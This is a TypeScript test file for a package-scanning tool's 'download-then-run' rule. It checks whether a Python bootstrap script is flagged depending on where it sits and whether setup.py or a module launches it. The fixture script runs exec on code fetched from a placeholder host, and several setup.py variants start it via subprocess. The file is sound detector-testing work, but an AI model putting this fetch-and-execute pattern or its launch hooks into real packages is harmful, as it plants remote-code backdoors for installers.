import { expect, test } from 'vitest';
import { analysedTree } from './analysed-tree.js';

const SETUP = 'from setuptools import setup, find_packages\nsetup(name="plot", version="1.0", packages=find_packages())\n';
const FETCHES = 'from urllib.request import urlopen\ndef main(address):\n    exec(urlopen(address).read())\nif __name__ == "__main__":\n    main("https://leaf.example.invalid/setup.py")\n';
const PACKAGE = { 'setup.py': SETUP, 'plot/__init__.py': '' };

async function critical(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const { findings } = await analysedTree(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])));
  return findings.filter(({ severity, rule }) => severity === 'critical' && rule === 'download-then-run').map(({ file }) => file ?? '');
}

test('a script beside the packages that fetches and runs something is none of a small package', async () => {
  expect(await critical({ ...PACKAGE, 'bootstrap.py': FETCHES })).toEqual([]);
});

test('the same script is one where the package holds it or the configuration names it', async () => {
  expect(await critical({ ...PACKAGE, 'plot/bootstrap.py': FETCHES })).toEqual(['plot/bootstrap.py']);
  expect(await critical({ ...PACKAGE, 'setup.py': SETUP.replace(')\n', ', py_modules=["bootstrap"])\n'), 'bootstrap.py': FETCHES })).toEqual(['bootstrap.py']);
});

test.each([
  ['what it is called like', 'import subprocess\nsubprocess.call(["python", "bootstrap.py"])\n'],
  ['what nobody knows', 'import os, subprocess\nsubprocess.call([os.environ["STARTER"], os.environ["SCRIPT"]])\n'],
])('the same script is one where setup.py starts %s', async (_, starts) => {
  expect(await critical({ ...PACKAGE, 'setup.py': `${starts}${SETUP}`, 'bootstrap.py': FETCHES })).toEqual(['bootstrap.py']);
});

test('the same script is one where a module starts it', async () => {
  expect(await critical({ ...PACKAGE, 'plot/__init__.py': 'import subprocess, sys\ndef grow():\n    subprocess.call([sys.executable, "bootstrap.py"])\n', 'bootstrap.py': FETCHES })).toEqual(['bootstrap.py']);
});
